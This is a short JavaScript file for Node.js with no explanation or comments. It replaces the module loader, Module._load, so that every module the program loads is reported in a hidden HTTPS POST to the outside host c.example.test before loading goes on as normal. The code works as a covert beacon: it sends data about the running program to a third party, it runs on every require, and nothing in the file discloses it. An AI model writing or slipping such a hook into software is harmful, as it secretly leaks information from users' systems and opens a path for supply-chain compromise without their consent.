const https = require("https");
const Module = require("module");

const load = Module._load;
Module._load = function (name, ...rest) {
  const request = https.request({ host: "c.example.test", method: "POST" });
  request.end(name);
  return load.call(this, name, ...rest);
};
